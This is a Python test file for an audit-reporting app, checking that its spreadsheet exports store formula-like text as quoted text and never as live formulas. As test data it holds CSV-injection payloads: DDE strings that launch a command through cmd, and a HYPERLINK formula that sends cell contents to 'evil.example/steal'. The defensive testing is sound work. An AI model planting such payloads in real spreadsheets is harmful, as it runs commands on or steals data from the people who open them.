"""Every spreadsheet export writes people's text as text: names, team names, actions and
evidence that start like a formula (=, +, -, @, tab, carriage return, the prefixes OWASP's
CSV injection guidance lists) are never formulas, and carry Excel's quote prefix so they stay
text when edited or saved as CSV."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from qa.audits.models import AuditAnswer
from qa.extensions import db
from qa.reports import audit_pdf
from qa.reports.xlsx import FORMULA_STARTS, Column, Sheet, workbook_bytes
from tests.qa.reports.helpers import drawn_audit, signed_off

DANGEROUS = {
    "team_manager": "-2+3+cmd|' /C calc'!A0",
    "practitioner": "+1+cmd|' /C calc'!A0",
    "service_manager": "@SUM(1+1)*cmd|' /C calc'!A0",
    "head_of_service": "\t=1+1",
}
TEAM = "=cmd|' /C calc'!A0"
ACTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the policy")'
READ_BACK_STARTS = (*FORMULA_STARTS, "\n")
"""XML reads a carriage return back as a line feed."""
EVIDENCE = ("\r=1+1 seen on the file", "\t=1+1 seen on the file")


@pytest.fixture
def hostile_world(org, monkeypatch):
    monkeypatch.setattr(audit_pdf, "render_pdf", lambda *args, **kwargs: b"%PDF-1.7 record")
    run, _ = drawn_audit(org)
    audit = signed_off(org, action=ACTION)
    answers = db.session.scalars(select(AuditAnswer).where(AuditAnswer.audit_id == audit.id))
    for n, answer in enumerate(answers):
        if answer.answer == "yes":  # short of the standard, so the action shows by theme
            answer.answer, answer.comment = "no", EVIDENCE[n % 2]
    for key, name in DANGEROUS.items():
        org.people[key].name = name
    org.teams["N1"].name = TEAM
    db.session.commit()
    return run


def _exports(run_id):
    return [
        "/reports/audit-answers.xlsx",
        "/reports/actions.xlsx",
        "/reports/selections.xlsx",
        f"/reports/selections/{run_id}.xlsx",
        "/reports/quantity.xlsx",
        "/trends/export.xlsx",
        "/trends/self-evaluation.xlsx",
    ]


def test_every_export_writes_formula_looking_text_as_quoted_text(sign_in_as, hostile_world):
    client = sign_in_as("qa_officer")
    starts_seen = set()
    for address in _exports(hostile_world.id):
        response = client.get(address)
        assert response.status_code == 200, address
        with zipfile.ZipFile(io.BytesIO(response.data)) as package:
            for name in package.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in package.read(name), f"a formula in {address}"
        dangerous = [
            cell
            for sheet in load_workbook(io.BytesIO(response.data)).worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(READ_BACK_STARTS)
        ]
        assert dangerous, f"{address} showed none of the hostile text"
        for cell in dangerous:
            assert cell.data_type == "s", (address, cell.coordinate, cell.value)
            assert cell.quotePrefix, (address, cell.coordinate, cell.value)
            starts_seen.add(cell.value[0].replace("\n", "\r"))
    assert starts_seen == set(FORMULA_STARTS)


def test_the_writer_quotes_each_dangerous_prefix(app):
    texts = [f"{start}1+1" for start in FORMULA_STARTS] + ["1+1", "Ordinary - text", ""]
    data = workbook_bytes(
        [Sheet("S", [Column("Text")], [[t] for t in texts])], title="t", author="a"
    )
    cells = list(load_workbook(io.BytesIO(data))["S"]["A"])[1:]
    assert [c.quotePrefix for c in cells] == [True] * 6 + [False, False, False]
    assert all(c.data_type == "s" for c in cells[:-1])


def test_ordinary_text_and_numbers_are_left_as_they_are(sign_in_as, org, monkeypatch):
    monkeypatch.setattr(audit_pdf, "render_pdf", lambda *args, **kwargs: b"%PDF-1.7 record")
    signed_off(org)
    book = load_workbook(io.BytesIO(sign_in_as("qa_officer").get("/trends/export.xlsx").data))
    for row in book["Teams"].iter_rows(min_row=2):
        assert row[0].data_type == "s" and not row[0].quotePrefix
        assert row[1].data_type == "n"
